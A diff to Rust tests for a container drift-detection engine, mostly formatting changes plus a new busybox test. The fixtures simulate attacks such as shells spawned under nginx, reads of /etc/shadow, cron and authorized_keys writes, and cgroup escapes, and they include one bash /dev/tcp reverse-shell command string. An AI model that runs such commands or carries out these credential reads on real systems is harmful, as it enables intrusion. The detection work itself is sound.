@@ -15,7 +15,10 @@ fn verdict(who: &Who, kind: EventKind) -> Verdict {
 
 fn class_of(who: &Who, kind: EventKind) -> (DriftClass, Risk) {
     let v = verdict(who, kind);
-    let d = v.drifts.first().unwrap_or_else(|| panic!("no drift: {v:?}"));
+    let d = v
+        .drifts
+        .first()
+        .unwrap_or_else(|| panic!("no drift: {v:?}"));
     assert!(!d.reason.is_empty());
     (d.class, d.risk)
 }
@@ -40,13 +43,19 @@ fn what_a_ready_baseline_knows_is_quiet() {
 #[test]
 fn shell_under_nginx_is_drift_and_its_quiet_twin_is_not() {
     let shell = who(&["/bin/sh", NGINX]);
-    assert_eq!(class_of(&shell, run("/bin/sh")), (DriftClass::ShellUnderServer, Risk::High));
+    assert_eq!(
+        class_of(&shell, run("/bin/sh")),
+        (DriftClass::ShellUnderServer, Risk::High)
+    );
     // twin: nginx reloads by starting itself
     let twin = who(&[NGINX, NGINX]);
     assert_ne!(class_of(&twin, run(NGINX)).0, DriftClass::ShellUnderServer);
     // twin: a shell under a shell
     let twin = who(&["/bin/sh", "/bin/sh"]);
-    assert_ne!(class_of(&twin, run("/bin/sh")).0, DriftClass::ShellUnderServer);
+    assert_ne!(
+        class_of(&twin, run("/bin/sh")).0,
+        DriftClass::ShellUnderServer
+    );
 }
 
 #[test]
@@ -59,7 +68,11 @@ fn shell_under_a_program_that_listens_is_drift_whatever_its_name() {
     let v = observe(&mut b, &c, &see(&c, 2, &shell, run("/bin/bash")));
     assert_eq!(v.drifts[0].class, DriftClass::ShellUnderServer);
     let twin = who(&["/bin/bash", "/opt/app/bin/other"]);
-    assert!(observe(&mut b, &c, &see(&c, 2, &twin, run("/bin/bash"))).drifts.is_empty());
+    assert!(
+        observe(&mut b, &c, &see(&c, 2, &twin, run("/bin/bash")))
+            .drifts
+            .is_empty()
+    );
 }
 
 #[test]
@@ -71,7 +84,11 @@ fn npm_may_start_a_shell_and_a_node_server_may_not() {
         shell.lineage[1].1 = script;
         observe(b, &c, &see(&c, 1, &shell, run("/bin/sh")))
     };
-    assert!(start(&mut b, "/usr/lib/node_modules/npm/bin/npm-cli.js").drifts.is_empty());
+    assert!(
+        start(&mut b, "/usr/lib/node_modules/npm/bin/npm-cli.js")
+            .drifts
+            .is_empty()
+    );
     assert!(!start(&mut b, "/srv/app/index.js").drifts.is_empty());
 }
 
@@ -80,8 +97,14 @@ fn a_program_dropped_after_creation_is_high_and_one_of_the_image_is_not() {
     let run_it = who(&["/tmp/x", "/bin/sh"]);
     let (class, risk) = class_of(&run_it, dropped("/tmp/x", Origin::Upper));
     assert_eq!((class, risk), (DriftClass::ProgramFromWritable, Risk::High));
-    assert_eq!(class_of(&run_it, dropped("/mnt/v/x", Origin::Volume)).1, Risk::Medium);
-    assert_eq!(class_of(&run_it, dropped("/tmp/xmrig", Origin::Upper)).1, Risk::Critical);
+    assert_eq!(
+        class_of(&run_it, dropped("/mnt/v/x", Origin::Volume)).1,
+        Risk::Medium
+    );
+    assert_eq!(
+        class_of(&run_it, dropped("/tmp/xmrig", Origin::Upper)).1,
+        Risk::Critical
+    );
     let (class, risk) = class_of(&who(&["/usr/bin/id", "/bin/sh"]), run("/usr/bin/id"));
     assert_eq!((class, risk), (DriftClass::NewProgram, Risk::Medium));
 }
@@ -90,8 +113,14 @@ fn a_program_dropped_after_creation_is_high_and_one_of_the_image_is_not() {
 fn a_program_without_a_file_is_critical() {
     let run_it = who(&["/memfd:x", "/usr/bin/python3"]);
     let fileless = (DriftClass::FilelessProgram, Risk::Critical);
-    assert_eq!(class_of(&run_it, dropped("/memfd:x (deleted)", Origin::Memfd)), fileless);
-    assert_eq!(class_of(&run_it, dropped("/proc/self/fd/3", Origin::Unknown)), fileless);
+    assert_eq!(
+        class_of(&run_it, dropped("/memfd:x (deleted)", Origin::Memfd)),
+        fileless
+    );
+    assert_eq!(
+        class_of(&run_it, dropped("/proc/self/fd/3", Origin::Unknown)),
+        fileless
+    );
     let mut e = exec("/usr/bin/ls");
     e.deleted = true;
     assert_eq!(class_of(&run_it, EventKind::Exec(e)), fileless);
@@ -99,9 +128,15 @@ fn a_program_without_a_file_is_critical() {
 
 #[test]
 fn a_dropped_namesake_is_called_a_masquerade() {
-    let v = verdict(&who(&["/tmp/nginx", "/bin/sh"]), dropped("/tmp/nginx", Origin::Upper));
+    let v = verdict(
+        &who(&["/tmp/nginx", "/bin/sh"]),
+        dropped("/tmp/nginx", Origin::Upper),
+    );
     assert_eq!(v.drifts[0].techniques, ["T1036.005"]);
-    let v = verdict(&who(&["/tmp/zz", "/bin/sh"]), dropped("/tmp/zz", Origin::Upper));
+    let v = verdict(
+        &who(&["/tmp/zz", "/bin/sh"]),
+        dropped("/tmp/zz", Origin::Upper),
+    );
     assert!(v.drifts[0].techniques.is_empty());
 }
 
@@ -113,8 +148,12 @@ fn somebody_who_enters_is_noticed() {
     let (class, risk) = class_of(&visitor, EventKind::Exec(e));
     assert_eq!((class, risk), (DriftClass::InteractiveEntry, Risk::Medium));
     // a runtime that copied itself into memory is the runtime all the same
-    let visitor = who(&["/bin/bash", "/memfd:runc_cloned:/proc/self/exe"]).entry(Entry::ExecSession);
-    assert_eq!(class_of(&visitor, run("/bin/bash")).0, DriftClass::InteractiveEntry);
+    let visitor =
+        who(&["/bin/bash", "/memfd:runc_cloned:/proc/self/exe"]).entry(Entry::ExecSession);
+    assert_eq!(
+        class_of(&visitor, run("/bin/bash")).0,
+        DriftClass::InteractiveEntry
+    );
 }
 
 #[test]
@@ -122,7 +161,11 @@ fn a_health_check_is_learned_and_a_visitor_with_a_terminal_is_not() {
     let c = container("x", 0);
     let mut b = fresh(&c);
     let probe = who(&["/usr/bin/curl", "/usr/bin/runc"]).entry(Entry::ExecSession);
-    assert!(observe(&mut b, &c, &see(&c, 1, &probe, run("/usr/bin/curl"))).drifts.is_empty());
+    assert!(
+        observe(&mut b, &c, &see(&c, 1, &probe, run("/usr/bin/curl")))
+            .drifts
+            .is_empty()
+    );
     let mut e = exec("/bin/bash");
     e.tty = 1;
     let visitor = who(&["/bin/bash", "/usr/bin/runc"]).entry(Entry::ExecSession);
@@ -131,21 +174,39 @@ fn a_health_check_is_learned_and_a_visitor_with_a_terminal_is_not() {
     // and what that visitor does is not learned either
     let does = who(&["/usr/bin/id", "/bin/bash", "/usr/bin/runc"]).entry(Entry::ExecSession);
     let v = observe(&mut b, &c, &see(&c, 2, &does, run("/usr/bin/id")));
-    assert!(v.learned.is_empty() && v.drifts.iter().all(|d| d.quarantined), "{v:?}");
+    assert!(
+        v.learned.is_empty() && v.drifts.iter().all(|d| d.quarantined),
+        "{v:?}"
+    );
 }
 
 #[test]
 fn the_runtime_may_set_up_a_container_and_a_program_that_takes_its_name_may_not() {
-    let unshare = || EventKind::Namespace { call: NamespaceCall::Unshare, flags: 0x1000_0000 };
+    let unshare = || EventKind::Namespace {
+        call: NamespaceCall::Unshare,
+        flags: 0x1000_0000,
+    };
     let c = container("x", 0);
     let mut b = fresh(&c);
     let runtime = who(&["/usr/bin/runc"]);
-    assert!(observe(&mut b, &c, &see(&c, 0, &runtime, unshare())).drifts.is_empty());
+    assert!(
+        observe(&mut b, &c, &see(&c, 0, &runtime, unshare()))
+            .drifts
+            .is_empty()
+    );
     let impostor = who(&["/tmp/runc", "/bin/sh"]);
-    assert!(!observe(&mut b, &c, &see(&c, 5, &impostor, unshare())).drifts.is_empty());
+    assert!(
+        !observe(&mut b, &c, &see(&c, 5, &impostor, unshare()))
+            .drifts
+            .is_empty()
+    );
     // neither may a dropped program started from outside under that name
     let dropped = who(&["/tmp/runc", "/usr/bin/runc"]).entry(Entry::ExecSession);
-    let v = observe(&mut b, &c, &see(&c, 5, &dropped, self::dropped("/tmp/runc", Origin::Upper)));
+    let v = observe(
+        &mut b,
+        &c,
+        &see(&c, 5, &dropped, self::dropped("/tmp/runc", Origin::Upper)),
+    );
     assert_eq!(v.drifts[0].class, DriftClass::ProgramFromWritable);
 }
 
@@ -160,17 +221,32 @@ fn credentials_read_by_cat_alert_and_by_sshd_at_work_do_not() {
         "/srv/.pgpass",
     ] {
         let (class, risk) = class_of(&cat, read(path));
-        assert_eq!((class, risk), (DriftClass::SensitiveFileRead, Risk::High), "{path}");
+        assert_eq!(
+            (class, risk),
+            (DriftClass::SensitiveFileRead, Risk::High),
+            "{path}"
+        );
     }
     let c = container("x", 0);
     let mut b = fresh(&c);
     let sshd = who(&["/usr/sbin/sshd"]);
-    assert!(observe(&mut b, &c, &see(&c, 1, &sshd, read("/etc/shadow"))).drifts.is_empty());
+    assert!(
+        observe(&mut b, &c, &see(&c, 1, &sshd, read("/etc/shadow")))
+            .drifts
+            .is_empty()
+    );
     // the name alone is no excuse
     let fake = who(&["/tmp/sshd"]);
-    assert!(!observe(&mut b, &c, &see(&c, 1, &fake, read("/etc/shadow"))).drifts.is_empty());
+    assert!(
+        !observe(&mut b, &c, &see(&c, 1, &fake, read("/etc/shadow")))
+            .drifts
+            .is_empty()
+    );
     // public account data is ordinary
-    assert_eq!(class_of(&cat, read("/etc/passwd")), (DriftClass::NewFileRead, Risk::Low));
+    assert_eq!(
+        class_of(&cat, read("/etc/passwd")),
+        (DriftClass::NewFileRead, Risk::Low)
+    );
 }
 
 #[test]
@@ -179,7 +255,11 @@ fn a_service_reads_its_own_secret_quietly_and_a_tool_does_not() {
     let mut b = fresh(&c);
     let token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
     let app = who(&["/opt/app/bin/app"]);
-    assert!(observe(&mut b, &c, &see(&c, 1, &app, read(token))).drifts.is_empty());
+    assert!(
+        observe(&mut b, &c, &see(&c, 1, &app, read(token)))
+            .drifts
+            .is_empty()
+    );
     let cat = who(&["/usr/bin/cat", "/bin/sh"]);
     let v = observe(&mut b, &c, &see(&c, 1, &cat, read(token)));
     assert_eq!(only_drift(&v).techniques, ["T1528"]);
@@ -190,9 +270,17 @@ fn a_web_server_reads_its_own_key_quietly_while_learning() {
     let c = container("x", 0);
     let mut b = fresh(&c);
     let key = "/etc/ssl/private/server.key";
-    assert!(observe(&mut b, &c, &see(&c, 1, &nginx(), read(key))).drifts.is_empty());
+    assert!(
+        observe(&mut b, &c, &see(&c, 1, &nginx(), read(key)))
+            .drifts
+            .is_empty()
+    );
     let cat = who(&["/usr/bin/cat", "/bin/sh"]);
-    assert!(!observe(&mut b, &c, &see(&c, 1, &cat, read(key))).drifts.is_empty());
+    assert!(
+        !observe(&mut b, &c, &see(&c, 1, &cat, read(key)))
+            .drifts
+            .is_empty()
+    );
 }
 
 #[test]
@@ -206,13 +294,30 @@ fn writes_to_where_programs_are_started_from_alert() {
         ("/root/.ssh/authorized_keys", Risk::High),
         ("/etc/systemd/system/x.service", Risk::High),
     ] {
-        assert_eq!(class_of(&sh, write(path)), (DriftClass::PersistenceWrite, risk), "{path}");
+        assert_eq!(
+            class_of(&sh, write(path)),
+            (DriftClass::PersistenceWrite, risk),
+            "{path}"
+        );
         // by rename as well
-        assert_eq!(class_of(&sh, rename("/tmp/x", path)).0, DriftClass::PersistenceWrite, "{path}");
+        assert_eq!(
+            class_of(&sh, rename("/tmp/x", path)).0,
+            DriftClass::PersistenceWrite,
+            "{path}"
+        );
     }
-    assert_eq!(class_of(&sh, write("/usr/bin/ls")), (DriftClass::ProgramFileWrite, Risk::High));
-    assert_eq!(class_of(&sh, write("/srv/data/x")), (DriftClass::NewFileWrite, Risk::Low));
-    assert_eq!(class_of(&sh, read("/etc/cron.d/x")), (DriftClass::NewFileRead, Risk::Low));
+    assert_eq!(
+        class_of(&sh, write("/usr/bin/ls")),
+        (DriftClass::ProgramFileWrite, Risk::High)
+    );
+    assert_eq!(
+        class_of(&sh, write("/srv/data/x")),
+        (DriftClass::NewFileWrite, Risk::Low)
+    );
+    assert_eq!(
+        class_of(&sh, read("/etc/cron.d/x")),
+        (DriftClass::NewFileRead, Risk::Low)
+    );
 }
 
 #[test]
@@ -232,8 +337,14 @@ fn traces_removed_by_a_shell_alert_and_by_logrotate_do_not() {
     });
     assert_eq!(class_of(&sh, hide), removed);
     let rotate = who(&["/usr/sbin/logrotate"]);
-    assert_eq!(class_of(&rotate, unlink("/var/log/nginx/access.log.1")).1, Risk::Low);
-    assert_eq!(class_of(&sh, unlink("/srv/data/x")).0, DriftClass::FileRemoved);
+    assert_eq!(
+        class_of(&rotate, unlink("/var/log/nginx/access.log.1")).1,
+        Risk::Low
+    );
+    assert_eq!(
+        class_of(&sh, unlink("/srv/data/x")).0,
+        DriftClass::FileRemoved
+    );
 }
 
 #[test]
@@ -242,15 +353,36 @@ fn host_files_seen_through_a_mount_alert_and_own_data_there_does_not() {
     let volume = |op, path: &str| file(op, path, Origin::Volume);
     let (class, risk) = class_of(&sh, volume(FileOp::Write, "/host/etc/cron.d/x"));
     assert_eq!((class, risk), (DriftClass::HostControlFile, Risk::Critical));
-    assert_eq!(class_of(&sh, volume(FileOp::Read, "/host/etc/shadow")).0, DriftClass::HostControlFile);
-    assert_eq!(class_of(&sh, volume(FileOp::Write, "/data/x")).0, DriftClass::NewFileWrite);
-    let core = file(FileOp::Write, "/proc/sys/kernel/core_pattern", Origin::Pseudo);
-    assert_eq!(class_of(&sh, core), (DriftClass::HostControlFile, Risk::Critical));
-    let look = file(FileOp::Read, "/proc/sys/kernel/core_pattern", Origin::Pseudo);
+    assert_eq!(
+        class_of(&sh, volume(FileOp::Read, "/host/etc/shadow")).0,
+        DriftClass::HostControlFile
+    );
+    assert_eq!(
+        class_of(&sh, volume(FileOp::Write, "/data/x")).0,
+        DriftClass::NewFileWrite
+    );
+    let core = file(
+        FileOp::Write,
+        "/proc/sys/kernel/core_pattern",
+        Origin::Pseudo,
+    );
+    assert_eq!(
+        class_of(&sh, core),
+        (DriftClass::HostControlFile, Risk::Critical)
+    );
+    let look = file(
+        FileOp::Read,
+        "/proc/sys/kernel/core_pattern",
+        Origin::Pseudo,
+    );
     assert_eq!(class_of(&sh, look).1, Risk::Low);
     let disk = file(FileOp::Read, "/dev/sda1", Origin::Pseudo);
     assert_eq!(class_of(&sh, disk).1, Risk::Critical);
-    let agent = file(FileOp::Write, "/sys/fs/cgroup/rdma/release_agent", Origin::Pseudo);
+    let agent = file(
+        FileOp::Write,
+        "/sys/fs/cgroup/rdma/release_agent",
+        Origin::Pseudo,
+    );
     assert_eq!(class_of(&sh, agent).1, Risk::Critical);
 }
 
@@ -264,20 +396,35 @@ fn set_uid_alerts_and_the_sticky_run_directory_of_a_database_does_not() {
         kind
     };
     let sh = who(&["/usr/bin/chmod", "/bin/bash"]);
-    assert_eq!(class_of(&sh, chmod("/tmp/x", 0o4755)), (DriftClass::MadeExecutable, Risk::High));
-    assert_eq!(class_of(&sh, chmod("/tmp/x", 0o755)), (DriftClass::MadeExecutable, Risk::Medium));
-    assert_eq!(class_of(&sh, chmod("/var/run/postgresql", 0o3775)).1, Risk::Low);
+    assert_eq!(
+        class_of(&sh, chmod("/tmp/x", 0o4755)),
+        (DriftClass::MadeExecutable, Risk::High)
+    );
+    assert_eq!(
+        class_of(&sh, chmod("/tmp/x", 0o755)),
+        (DriftClass::MadeExecutable, Risk::Medium)
+    );
+    assert_eq!(
+        class_of(&sh, chmod("/var/run/postgresql", 0o3775)).1,
+        Risk::Low
+    );
 }
 
 #[test]
 fn network_classes_fire_and_their_twins_do_not() {
     let metadata = class_of(&nginx(), connect("169.254.169.254:80"));
     assert_eq!(metadata, (DriftClass::MetadataService, Risk::High));
-    assert_eq!(class_of(&nginx(), connect("10.0.0.77:5432")), (DriftClass::NewOutboundPeer, Risk::Medium));
+    assert_eq!(
+        class_of(&nginx(), connect("10.0.0.77:5432")),
+        (DriftClass::NewOutboundPeer, Risk::Medium)
+    );
     assert_eq!(class_of(&nginx(), connect("127.0.0.1:5432")).1, Risk::Low);
     let bash = who(&["/bin/bash", NGINX]);
     assert_eq!(class_of(&bash, connect("10.0.0.77:4444")).1, Risk::High);
-    assert_eq!(class_of(&nginx(), listen(4444)), (DriftClass::NewListeningPort, Risk::Medium));
+    assert_eq!(
+        class_of(&nginx(), listen(4444)),
+        (DriftClass::NewListeningPort, Risk::Medium)
+    );
     assert!(verdict(&nginx(), listen(80)).is_known());
     let docker = EventKind::Connect(plimsoll_model::event::Connection {
         proto: Proto::Unix,
@@ -285,29 +432,68 @@ fn network_classes_fire_and_their_twins_do_not() {
         local: None,
         result: 0,
     });
-    assert_eq!(class_of(&nginx(), docker), (DriftClass::RuntimeSocket, Risk::High));
-    let packet = EventKind::Socket { family: 17, kind: 3, protocol: 768 };
-    assert_eq!(class_of(&nginx(), packet), (DriftClass::UnusualSocket, Risk::High));
-    let netlink = EventKind::Socket { family: 16, kind: 3, protocol: 0 };
+    assert_eq!(
+        class_of(&nginx(), docker),
+        (DriftClass::RuntimeSocket, Risk::High)
+    );
+    let packet = EventKind::Socket {
+        family: 17,
+        kind: 3,
+        protocol: 768,
+    };
+    assert_eq!(
+        class_of(&nginx(), packet),
+        (DriftClass::UnusualSocket, Risk::High)
+    );
+    let netlink = EventKind::Socket {
+        family: 16,
+        kind: 3,
+        protocol: 0,
+    };
     assert_eq!(class_of(&nginx(), netlink).1, Risk::Low);
 }
 
 #[test]
 fn a_reverse_shell_is_critical_and_a_local_socket_is_not() {
-    let dup = |target| EventKind::Dup { stream: 0, target, peer: None };
+    let dup = |target| EventKind::Dup {
+        stream: 0,
+        target,
+        peer: None,
+    };
     let sh = who(&["/bin/sh", NGINX]);
-    assert_eq!(class_of(&sh, dup(DupTarget::Inet)), (DriftClass::StreamsOnSocket, Risk::Critical));
+    assert_eq!(
+        class_of(&sh, dup(DupTarget::Inet)),
+        (DriftClass::StreamsOnSocket, Risk::Critical)
+    );
     assert_eq!(class_of(&sh, dup(DupTarget::Unix)).1, Risk::Low);
     let devtcp = who(&["/bin/bash", "/bin/sh"]);
-    let v = verdict(&devtcp, run_args("/bin/bash", &["-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]));
-    assert!(v.drifts.iter().any(|d| d.class == DriftClass::NewArguments && d.risk == Risk::High));
+    let v = verdict(
+        &devtcp,
+        run_args(
+            "/bin/bash",
+            &["-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
+        ),
+    );
+    assert!(
+        v.drifts
+            .iter()
+            .any(|d| d.class == DriftClass::NewArguments && d.risk == Risk::High)
+    );
 }
 
 #[test]
 fn steps_towards_the_host_and_to_more_rights_alert() {
     let sh = who(&["/bin/sh", NGINX]);
-    let creds = |old_uid, new_uid, caps| EventKind::Credentials { old_uid, new_uid, old_caps: 0, new_caps: caps };
-    let setns = EventKind::Namespace { call: NamespaceCall::Setns, flags: 0 };
+    let creds = |old_uid, new_uid, caps| EventKind::Credentials {
+        old_uid,
+        new_uid,
+        old_caps: 0,
+        new_caps: caps,
+    };
+    let setns = EventKind::Namespace {
+        call: NamespaceCall::Setns,
+        flags: 0,
+    };
     let mount = EventKind::Mount {
         call: MountCall::Mount,
         source: "/dev/sda1".into(),
@@ -323,16 +509,49 @@ fn steps_towards_the_host_and_to_more_rights_alert() {
     for (kind, class, risk) in [
         (setns, DriftClass::NamespaceChange, Risk::High),
         (mount, DriftClass::MountChange, Risk::High),
-        (EventKind::Ptrace { request: 16, target: 1 }, DriftClass::ProcessTampering, Risk::High),
-        (EventKind::Module { name: "rootkit".into() }, DriftClass::KernelModule, Risk::Critical),
-        (EventKind::Bpf { command: 5 }, DriftClass::BpfUse, Risk::High),
+        (
+            EventKind::Ptrace {
+                request: 16,
+                target: 1,
+            },
+            DriftClass::ProcessTampering,
+            Risk::High,
+        ),
+        (
+            EventKind::Module {
+                name: "rootkit".into(),
+            },
+            DriftClass::KernelModule,
+            Risk::Critical,
+        ),
+        (
+            EventKind::Bpf { command: 5 },
+            DriftClass::BpfUse,
+            Risk::High,
+        ),
         (creds(33, 0, 0), DriftClass::UidChange, Risk::High),
         (creds(0, 33, 0), DriftClass::UidChange, Risk::Low),
-        (creds(33, 33, 1 << 21), DriftClass::NewCapability, Risk::High),
-        (creds(33, 33, 1 << 10), DriftClass::NewCapability, Risk::Medium),
-        (EventKind::Memfd { name: "x".into() }, DriftClass::MemoryFile, Risk::Medium),
+        (
+            creds(33, 33, 1 << 21),
+            DriftClass::NewCapability,
+            Risk::High,
+        ),
+        (
+            creds(33, 33, 1 << 10),
+            DriftClass::NewCapability,
+            Risk::Medium,
+        ),
+        (
+            EventKind::Memfd { name: "x".into() },
+            DriftClass::MemoryFile,
+            Risk::Medium,
+        ),
         (attach("/"), DriftClass::CgroupEscape, Risk::Critical),
-        (attach("/system.slice/docker-abc.scope/sub"), DriftClass::RareCall, Risk::Low),
+        (
+            attach("/system.slice/docker-abc.scope/sub"),
+            DriftClass::RareCall,
+            Risk::Low,
+        ),
     ] {
         assert_eq!(class_of(&sh, kind.clone()), (class, risk), "{kind:?}");
     }
@@ -344,20 +563,30 @@ fn arguments_that_changed_under_the_kernels_eyes_alert_even_when_known() {
     let mut obs = see(&c, 500, &nginx(), read("/srv/www/index.html"));
     assert!(judge(&b, &c, &obs).is_known());
     obs.event.tampered = true;
-    assert_eq!(only_drift(&judge(&b, &c, &obs)).class, DriftClass::ArgumentRace);
+    assert_eq!(
+        only_drift(&judge(&b, &c, &obs)).class,
+        DriftClass::ArgumentRace
+    );
 }
 
 #[test]
 fn a_drift_is_frozen_with_the_baseline_and_what_it_expected() {
     let (b, c) = ready();
-    let v = judge(&b, &c, &see(&c, 500, &nginx(), read("/srv/www/secret.html")));
+    let v = judge(
+        &b,
+        &c,
+        &see(&c, 500, &nginx(), read("/srv/www/secret.html")),
+    );
     let d = only_drift(&v);
     assert_eq!(d.baseline, Some(b.reference()));
     assert_eq!(d.baseline_state, "ready");
     assert_eq!(d.coverage_permille, b.coverage().permille());
     assert!(!d.nearest.is_empty() && d.nearest.len() <= 3);
     assert_eq!(d.nearest[0].behaviour.object, "/srv/www/index.html".into());
-    assert_eq!(d.nearest[0].difference, "same program, other file (/srv/www/index.html)");
+    assert_eq!(
+        d.nearest[0].difference,
+        "same program, other file (/srv/www/index.html)"
+    );
 }
 
 #[test]
@@ -368,7 +597,11 @@ fn without_a_baseline_an_attack_alerts_and_ordinary_work_does_not() {
         let coded = plimsoll_baseline::behaviours(&obs, &c, &plimsoll_baseline::NoNames);
         plimsoll_baseline::judge(&obs, &c, None, &coded)
     };
-    assert!(judge(&nginx(), read("/etc/nginx/nginx.conf")).drifts.is_empty());
+    assert!(
+        judge(&nginx(), read("/etc/nginx/nginx.conf"))
+            .drifts
+            .is_empty()
+    );
     let v = judge(&who(&["/usr/bin/cat", "/bin/sh"]), read("/etc/shadow"));
     assert_eq!(only_drift(&v).baseline, None);
     assert!(only_drift(&v).quarantined);
@@ -378,14 +611,20 @@ fn without_a_baseline_an_attack_alerts_and_ordinary_work_does_not() {
 fn low_drift_while_learning_is_silent_and_high_drift_never_is() {
     let mut drift = only_drift(&verdict(&nginx(), read("/srv/x"))).clone();
     assert_eq!(priority(&drift, Novelty::First), Some(Priority::Notice));
-    assert_eq!(priority(&drift, Novelty::Elsewhere), Some(Priority::Informational));
+    assert_eq!(
+        priority(&drift, Novelty::Elsewhere),
+        Some(Priority::Informational)
+    );
     drift.baseline_state = "learning".into();
     assert_eq!(priority(&drift, Novelty::First), None);
     drift.risk = Risk::High;
     drift.coverage_permille = 100;
     assert_eq!(priority(&drift, Novelty::Elsewhere), Some(Priority::Error));
     drift.risk = Risk::Critical;
-    assert_eq!(priority(&drift, Novelty::Elsewhere), Some(Priority::Critical));
+    assert_eq!(
+        priority(&drift, Novelty::Elsewhere),
+        Some(Priority::Critical)
+    );
     drift.risk = Risk::Medium;
     assert_eq!(priority(&drift, Novelty::First), Some(Priority::Notice));
     drift.coverage_permille = 990;
@@ -406,13 +645,26 @@ fn an_alert_says_it_in_one_sentence_and_in_falcos_fields() {
     assert_eq!(a.rule, "Shell started by a server");
     assert_eq!(a.priority, Priority::Error);
     let output = String::from_utf8(a.output.as_bytes().to_vec()).unwrap();
-    assert!(output.starts_with("Shell started by a server in web2 (shop/web:1.4): sh was started by nginx"), "{output}");
+    assert!(
+        output.starts_with(
+            "Shell started by a server in web2 (shop/web:1.4): sh was started by nginx"
+        ),
+        "{output}"
+    );
     assert!(!output.contains('\x1b') && !output.contains('\n'));
-    let field = |n: &str| a.fields.iter().find(|(k, _)| k == n).map(|(_, v)| v.to_str_lossy().into_owned());
+    let field = |n: &str| {
+        a.fields
+            .iter()
+            .find(|(k, _)| k == n)
+            .map(|(_, v)| v.to_str_lossy().into_owned())
+    };
     assert_eq!(field("proc.name").as_deref(), Some("sh"));
     assert_eq!(field("proc.pname").as_deref(), Some("nginx"));
     assert_eq!(field("evt.type").as_deref(), Some("execve"));
-    assert_eq!(field("container.image.repository").as_deref(), Some("shop/web"));
+    assert_eq!(
+        field("container.image.repository").as_deref(),
+        Some("shop/web")
+    );
     assert_eq!(field("container.image.tag").as_deref(), Some("1.4"));
     assert!(field("proc.cmdline").unwrap().starts_with("sh -c id"));
     assert!(a.fields.windows(2).all(|w| w[0].0 < w[1].0));
@@ -425,10 +677,35 @@ fn every_technique_that_is_emitted_belongs_to_the_matrix_for_containers() {
     let source = include_str!("../src/risk.rs");
     let mut found = 0;
     for part in source.split("technique").skip(1) {
-        for word in part.split('"').filter(|w| w.starts_with('T') && w[1..].starts_with(|c: char| c.is_ascii_digit())) {
+        for word in part
+            .split('"')
+            .filter(|w| w.starts_with('T') && w[1..].starts_with(|c: char| c.is_ascii_digit()))
+        {
             found += 1;
             assert!(attack::technique_name(word).is_some(), "{word}");
         }
     }
     assert!(found > 20, "only {found} techniques found in the source");
+}
+
+#[test]
+fn one_busybox_is_many_programs() {
+    let c = container("x", 0);
+    let mut b = fresh(&c);
+    let call = |applet: &str| {
+        let mut e = exec("/bin/busybox");
+        e.argv = vec![applet.into()];
+        EventKind::Exec(e)
+    };
+    let under_nginx = who(&["/bin/busybox", NGINX]);
+    let v = observe(&mut b, &c, &see(&c, 1, &under_nginx, call("date")));
+    assert!(v.drifts.is_empty());
+    // knowing one of them makes no other known
+    let v = judge(&b, &c, &see(&c, 2, &under_nginx, call("id")));
+    assert!(!v.is_known());
+    // and called as a shell it is one
+    let v = judge(&b, &c, &see(&c, 2, &under_nginx, call("sh")));
+    assert_eq!(v.drifts[0].class, DriftClass::ShellUnderServer);
+    let v = judge(&b, &c, &see(&c, 2, &under_nginx, call("-ash")));
+    assert_eq!(v.drifts[0].class, DriftClass::ShellUnderServer);
 }
